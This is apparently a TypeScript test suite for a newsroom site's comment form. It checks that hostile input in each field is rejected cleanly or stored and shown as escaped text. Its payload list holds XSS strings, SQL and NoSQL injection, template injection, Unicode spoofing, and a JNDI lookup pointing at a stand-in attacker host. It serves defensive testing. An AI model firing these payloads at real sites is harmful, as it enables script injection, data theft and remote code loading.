/**
 * Hostile input in every comment field: each value is refused with a 4xx and a message, or
 * stored exactly (as normalised) and shown as inert, escaped text. Never a 500; nothing
 * accepted is lost.
 */
import { normaliseBody } from '../../src/moderation/text'
import * as demo from '../../src/seed/fixtures/namArticle'
import { seedDemoContent } from '../../src/seed/seed'
import { cookieHeader, newBrowser, postComment, remember } from '../helpers/comments'
import { bootNewsroom, type TestNewsroom } from '../helpers/newsroom'
import { serveSite, type TestSite } from '../helpers/site'

let newsroom: TestNewsroom
let site: TestSite
let slug: string

beforeAll(async () => {
  newsroom = await bootNewsroom()
  await seedDemoContent(newsroom.payload, { password: 'fuzz password' })
  await newsroom.payload.updateGlobal({ slug: 'comment-policy', data: { floodSeconds: 0 }, overrideAccess: true })
  site = await serveSite(newsroom)
  slug = (await newsroom.payload.find({ collection: 'articles', where: { title: { equals: demo.title } }, overrideAccess: true })).docs[0]!.slug as string
})
afterAll(async () => {
  await site?.close()
  await newsroom?.close()
})

const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  'javascript:alert(1)',
  '<a href="https://evil.example">click</a>',
  '<!-- comment --> ]]> <![CDATA[x]]>',
  '{{7*7}} ${7*7} %s {name}',
  '${jndi:ldap://evil.example/a}',
  "' OR 1=1 --",
  '{"$gt": ""}',
  'null\u0000byte',
  'bell\u0007 escape\u001b[31m next-line\u0085',
  '\u202Egnp.exe',
  'zero\u200Bwidth',
  'مرحبا بالعالم — שלום',
  '👍🏽 é e\u0301 ﷽',
  'x'.repeat(300),
  'line one\r\nline two\rline three',
  '   padded   ',
]

const BASE = { author: 'Fuzz Tester', email: 'fuzz@example.org', url: '', comment: 'A normal comment.' }
const FIELDS = ['comment', 'author', 'email', 'url', 'comment_parent', 'website'] as const
const RAW_DANGER = [/<script>alert/i, /<img src=x/i, /<svg\/onload/i, /href="javascript:/i, /<a href="https:\/\/evil\.example">/]

const cases = FIELDS.flatMap((field) => HOSTILE.map((value, index) => [field, index, value] as const))

test.each(cases)('%s #%i: a 4xx with a message, or stored as inert text', async (field, index, value) => {
  const browser = newBrowser()
  // Unique text per case, so no case is a duplicate of another.
  const fields: Record<string, string> = { ...BASE, email: `fuzz-${field}-${index}@example.org`, comment: `Case ${field} ${index}: ${BASE.comment}` }
  fields[field] = field === 'comment' ? `${value} (case ${index})` : value
  const response = await postComment(site, slug, fields, { secret: newsroom.payload.secret, browser, json: true })
  expect(response.status).toBeLessThan(500)
  const body = await response.json()
  if (response.status >= 400) {
    expect(body.error).toEqual(expect.any(String))
    expect(body.error.length).toBeGreaterThan(10)
    return
  }
  expect(response.status).toBe(201)
  const stored = await newsroom.payload.findByID({ collection: 'comments', id: body.id, overrideAccess: true })
  // Nothing accepted is lost: the text is kept as typed (line endings and outer spaces normalised).
  expect(stored.body).toBe(normaliseBody(fields.comment!))
  if (fields.author) expect(stored.authorName).toBe(fields.author.trim())

  const page = await site.get(`/articles/${slug}`, { Cookie: cookieHeader(browser) })
  remember(browser, page)
  const html = await page.text()
  expect(page.status).toBe(200)
  const item = html.slice(html.indexOf(`<li id="comment-${body.id}"`), html.indexOf('</li>', html.indexOf(`<li id="comment-${body.id}"`)))
  expect(item.length).toBeGreaterThan(0)
  for (const danger of RAW_DANGER) expect(item).not.toMatch(danger)
})

test('invalid UTF-8 in any field is refused, not mangled', async () => {
  for (const raw of ['%FF', '%C0%AF', '%ED%A0%80', '%E0%A4%A']) {
    for (const field of FIELDS) {
      const browser = newBrowser()
      const response = await site.request('POST', `/articles/${slug}/comments`, {
        headers: { 'Content-Type': 'application/x-www-form-urlencoded', Accept: 'application/json', 'X-Forwarded-For': browser.ip, Origin: site.url },
        body: `author=A&email=a%40example.org&comment=hello&${field}=x${raw}y`,
      })
      expect({ field, raw, status: response.status }).toEqual({ field, raw, status: 400 })
    }
  }
})
